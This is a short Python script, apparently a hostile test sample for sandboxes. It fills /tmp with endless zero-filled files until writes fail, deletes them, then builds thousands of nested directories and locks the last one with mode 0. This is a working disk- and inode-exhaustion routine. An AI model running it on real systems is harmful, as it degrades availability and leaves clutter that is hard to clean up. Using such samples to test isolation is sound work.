"""Fills whatever can be written to: one endless file, then small ones, then folders in folders."""

import os

for number in range(100):
    try:
        with open(f"/tmp/{number}", "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError:
        pass
for number in range(100):
    try:
        os.unlink(f"/tmp/{number}")
    except OSError:
        pass
for number in range(20_000):
    try:
        os.mkdir("deep")
        os.chdir("deep")
    except OSError:
        break
os.chmod(".", 0)
os._exit(0)
